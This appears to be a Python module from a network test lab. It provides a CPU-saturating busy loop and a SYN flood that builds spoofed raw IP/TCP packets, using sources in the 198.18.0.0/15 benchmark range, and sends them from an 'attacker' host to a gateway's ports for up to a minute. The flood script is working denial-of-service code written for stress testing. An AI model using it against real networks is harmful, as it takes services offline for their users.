"""What makes a machine's day hard: busy loops on its CPUs, and a flood of SYN packets. Both end by themselves."""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
from collections.abc import Iterator, Sequence

from .lab import HOSTS, Lab

LONGEST_S = 60


@contextlib.contextmanager
def busy_cpus() -> Iterator[None]:
    """A busy loop on every CPU of this machine, for a minute at most."""
    program = f"import time\nend = time.monotonic() + {LONGEST_S}\nwhile time.monotonic() < end: pass"
    loops = [subprocess.Popen([sys.executable, "-I", "-c", program]) for _ in range(os.cpu_count() or 1)]
    try:
        yield
    finally:
        for loop in loops:
            loop.kill()
            loop.wait()


@contextlib.contextmanager
def syn_flood(lab: Lab, ports: Sequence[int], *, per_second: int = 20_000) -> Iterator[None]:
    """SYNs from ever other addresses (198.18.0.0/15, RFC 2544) to the gateway's ports, for a minute at most."""
    words = [HOSTS["gateway"].v4, ",".join(map(str, ports)), str(per_second), str(LONGEST_S)]
    process = lab.popen_in(
        "attacker", [sys.executable, "-I", "-c", _FLOOD, *words], stdout=subprocess.PIPE, text=True
    )
    assert process.stdout is not None
    try:
        if process.stdout.readline() != "flooding\n":
            raise RuntimeError("the flood did not begin")
        yield
    finally:
        process.kill()
        process.wait()


# RFC 791, RFC 9293. The packets are made ahead: 30,000 different ones, sent round and round.
_FLOOD = """
import random, socket, struct, sys, time
gateway, ports = socket.inet_aton(sys.argv[1]), sys.argv[2].split(",")
rate, longest = int(sys.argv[3]), int(sys.argv[4])
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 65535 - total
def packet(number):
    source = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
    port = int(ports[number % len(ports)])
    head = struct.pack("!HHIIHH", random.randrange(1024, 65536), port, number, 0, 0x5002, 64000)
    false = source + gateway + b"\\0\\6\\0\\x14"
    tcp = head + struct.pack("!HH", checksum(false + head + b"\\0\\0\\0\\0"), 0)
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + gateway + tcp
packets = [packet(n) for n in range(30000)]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
to = (sys.argv[1], 0)
begun, sent = time.monotonic(), 0
while (passed := time.monotonic() - begun) < longest:
    while sent < passed * rate:
        s.sendto(packets[sent % len(packets)], to)
        sent += 1
        if sent == 1:
            print("flooding", flush=True)
    time.sleep(0.001)
"""
